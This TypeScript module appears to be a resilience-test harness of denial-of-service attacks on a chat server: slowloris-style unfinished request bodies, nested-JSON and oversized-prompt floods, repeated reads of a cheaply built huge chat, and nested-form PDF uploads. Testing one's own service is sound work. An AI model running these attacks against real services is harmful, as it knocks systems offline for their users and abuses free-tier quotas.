import { connect, type Socket } from "node:net"
import { setTimeout as pause } from "node:timers/promises"
import { formOf, makeAgent, postJson, request } from "./request.ts"
import { nestedFormsPdf } from "./nestedFormsPdf.ts"

/** The attacked server, and the session of the person who attacks it. */
export interface Attacker {
  readonly url: string
  readonly cookie: string
}

export interface Attack {
  readonly name: string
  /** Begins the attack. Resolves when the attack is running, with a function that ends it. */
  readonly begin: (attacker: Attacker) => Promise<() => void>
}

const MIB = 1024 * 1024
const CONNECTIONS = 20
const SILENT = 40
const UNFINISHED = 1_000
const NESTED = Buffer.from(`{"messages":${`[${'[[],{"a":[1,2]}],'.repeat(61_600)}1]`}}`)
const WORDS = Buffer.from(JSON.stringify({ messages: [{ role: "user", content: "word ".repeat(205_000) }] }))

/** Opens connections that announce a body and send only its beginning. */
const unfinished =
  (count: number, path: string, type: string, length: number, begun: Buffer) => async (to: Attacker) => {
    const { hostname, port } = new URL(to.url)
    const head = `POST ${path} HTTP/1.1\r\nhost: ${hostname}\r\ncookie: ${to.cookie}\r\ncontent-type: ${type}\r\n`
    const sockets = Array.from({ length: count }, (): Socket => {
      const socket = connect({ host: hostname, port: Number(port) })
      socket.on("error", () => undefined)
      socket.resume()
      socket.write(`${head}content-length: ${length}\r\n\r\n`)
      socket.write(begun)
      return socket
    })
    return () => sockets.forEach((socket) => socket.destroy())
  }

/**
 * The pause of a connection between a response and its next request. With it, twenty connections send at most 400
 * requests per second.
 */
const PAUSE_MS = 50

/** Repeats requests on `CONNECTIONS` connections. */
const flood =
  (send: (attacker: Attacker, agent: ReturnType<typeof makeAgent>, index: number) => Promise<unknown>) =>
  async (to: Attacker) => {
    const agent = makeAgent()
    let on = true
    let index = 0
    const run = async () => {
      while (on) {
        await send(to, agent, index++).catch(() => undefined)
        await pause(PAUSE_MS)
      }
    }
    for (let connection = 0; connection < CONNECTIONS; connection++) void run()
    return () => {
      on = false
      agent.destroy()
    }
  }

/**
 * Writes a chat of about two megabytes, with so few words that the credits of the free tier suffice. Returns its id.
 */
const writeLongChat = async ({ url, cookie }: Attacker): Promise<string> => {
  const agent = makeAgent()
  const messages = Array.from({ length: 999 }, () => ({ role: "user", content: `${" ".repeat(980)}word` }))
  let chatId: string | undefined
  for (let turn = 0; turn < 2; turn++) {
    const { headers, status } = await postJson(agent, url, cookie, "/api/chat", { chatId, messages })
    if (status !== 200) break
    chatId ??= String(headers["x-chat-id"])
  }
  agent.destroy()
  return `/api/chats/${chatId ?? ""}`
}

export const attacks: ReadonlyArray<Attack> = [
  {
    name: `${SILENT} silent connections that announce uploads of 16 MiB`,
    begin: unfinished(SILENT, "/api/upload", "multipart/form-data; boundary=b", 16 * MIB, Buffer.alloc(0))
  },
  {
    name: `${UNFINISHED} unfinished JSON bodies of 1 MiB`,
    begin: unfinished(UNFINISHED, "/api/chat", "application/json", MIB, Buffer.alloc(MIB - 1024, " "))
  },
  {
    name: `${CONNECTIONS} connections of 1 MiB of nested JSON`,
    begin: flood(({ url, cookie }, agent) =>
      request(agent, { url, cookie, method: "POST", path: "/api/chat", type: "application/json", body: NESTED })
    )
  },
  {
    name: `${CONNECTIONS} connections of prompts of 1 MiB`,
    begin: flood(({ url, cookie }, agent) =>
      request(agent, { url, cookie, method: "POST", path: "/api/chat", type: "application/json", body: WORDS })
    )
  },
  {
    name: `${CONNECTIONS} connections that read a chat of megabytes`,
    begin: async (attacker) => {
      const path = await writeLongChat(attacker)
      return flood(({ url, cookie }, agent) => request(agent, { url, cookie, path }))(attacker)
    }
  },
  {
    name: "pdfs of nested forms, again and again",
    begin: flood(({ url, cookie }, agent, index) => {
      const { body, type } = formOf("forms.pdf", nestedFormsPdf(index))
      return request(agent, { url, cookie, method: "POST", path: "/api/upload", type, body })
    })
  }
]
